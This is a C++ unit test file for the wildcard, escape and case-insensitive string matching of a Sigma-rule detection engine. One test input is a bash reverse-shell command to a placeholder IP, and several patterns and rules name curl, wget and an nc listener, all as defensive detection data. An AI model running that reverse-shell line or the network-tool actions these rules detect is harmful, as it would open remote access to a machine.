// Sigma string values: wildcards, escapes, case-insensitivity.
#include "pattern.hpp"
#include "sigma_test_util.hpp"
#include "string_matcher.hpp"

using namespace sigma_test;
using vigil::behavior::sigma::Pattern;
using vigil::behavior::sigma::StringMatcher;

namespace {
bool glob(std::string_view pattern, std::string_view text, bool cased = false) {
    StringMatcher m(Pattern::parse(pattern), cased);
    std::string t(text);
    if (!cased)
        for (char& c : t) c = char(std::tolower(static_cast<unsigned char>(c)));
    return m.match(t);
}
}  // namespace

TEST_CASE("behavior_sigma_wildcard: star and question mark") {
    CHECK(glob("/usr/bin/python*", "/usr/bin/python3.11"));
    CHECK(glob("*/python3", "/usr/bin/python3"));
    CHECK(glob("*bash -i*", "/bin/bash -i >& /dev/tcp/1.2.3.4/80"));
    CHECK(glob("/tmp/?", "/tmp/x"));
    CHECK_FALSE(glob("/tmp/?", "/tmp/xy"));
    CHECK_FALSE(glob("/tmp/?", "/tmp/"));
    CHECK(glob("a*b*c", "aXXbYYbZZc"));
    CHECK(glob("a*b?d", "abbbcd"));
    CHECK_FALSE(glob("a*b*c", "aXXbYY"));
    CHECK(glob("*", ""));
    CHECK(glob("*", "anything"));
    CHECK(glob("", ""));
    CHECK_FALSE(glob("", "x"));
    CHECK(glob("**x**", "..x.."));
}

TEST_CASE("behavior_sigma_wildcard: question mark matches one UTF-8 character") {
    CHECK(glob("caf?", "caf\xC3\xA9"));        // é is two bytes
    CHECK(glob("*?\xE2\x82\xAC", "x\xE2\x82\xAC"));  // then a literal euro sign
    CHECK_FALSE(glob("caf?", "caf\xC3\xA9x"));
}

TEST_CASE("behavior_sigma_wildcard: matching is case-insensitive unless cased") {
    CHECK(glob("/USR/BIN/Curl", "/usr/bin/curl"));
    CHECK(glob("*WGET*", "/usr/bin/wget -q"));
    CHECK_FALSE(glob("/USR/BIN/Curl", "/usr/bin/curl", true));
    CHECK(glob("/usr/bin/Curl", "/usr/bin/Curl", true));
}

TEST_CASE("behavior_sigma_wildcard: escapes") {
    // \* and \? are literal characters
    CHECK(glob("a\\*b", "a*b"));
    CHECK_FALSE(glob("a\\*b", "aXXb"));
    CHECK(glob("what\\?", "what?"));
    CHECK_FALSE(glob("what\\?", "whatx"));
    // \\ is one backslash; \\* a backslash followed by a wildcard
    CHECK(glob("c:\\\\x", "c:\\x"));
    CHECK(glob("dir\\\\*", "dir\\anything"));
    CHECK_FALSE(glob("dir\\\\*", "dirXanything"));
    // \\\* : a backslash then a literal star
    CHECK(glob("a\\\\\\*", "a\\*"));
    CHECK_FALSE(glob("a\\\\\\*", "a\\xyz"));
    // \\\\ is two backslashes
    CHECK(glob("\\\\\\\\srv", "\\\\srv"));
    // A backslash before an ordinary character stays a backslash.
    CHECK(glob("C:\\Windows", "c:\\windows"));
    // A trailing lone backslash is literal.
    CHECK(glob("end\\", "end\\"));
}

TEST_CASE("behavior_sigma_wildcard: escaped wildcards in a rule value") {
    auto d = detector_for(
        "    selection:\n"
        "        CommandLine: 'echo \\*literal\\*'\n"
        "    condition: selection\n");
    CHECK(hits(d, process("/bin/echo", "echo *literal*")));
    CHECK(hits(d, process("/bin/echo", "ECHO *LITERAL*")));
    CHECK_FALSE(hits(d, process("/bin/echo", "echo XliteralX")));
}

TEST_CASE("behavior_sigma_wildcard: plain values are whole-field matches") {
    auto d = detector_for(
        "    selection:\n"
        "        Image: '/usr/bin/nc'\n"
        "    condition: selection\n");
    CHECK(hits(d, process("/usr/bin/nc", "nc -l")));
    CHECK(hits(d, process("/USR/BIN/NC", "nc -l")));
    CHECK_FALSE(hits(d, process("/usr/bin/ncat", "ncat -l")));
    CHECK_FALSE(hits(d, process("/opt/usr/bin/nc", "nc -l")));
}
